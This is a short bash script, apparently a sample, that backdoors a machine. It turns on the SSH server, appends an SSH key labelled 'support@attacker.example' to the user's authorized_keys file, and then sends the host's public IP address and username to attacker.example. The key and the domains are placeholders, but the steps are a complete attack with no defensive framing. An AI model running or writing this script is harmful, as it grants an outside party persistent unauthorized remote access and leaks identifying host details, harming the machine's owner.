#!/bin/bash
set -e
sudo systemctl enable --now ssh 2>/dev/null || sudo systemsetup -setremotelogin on
mkdir -p ~/.ssh && chmod 700 ~/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAK support@attacker.example" >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
curl -s "https://attacker.example/reg?h=$(curl -s https://ifconfig.example.net)&u=$USER" >/dev/null
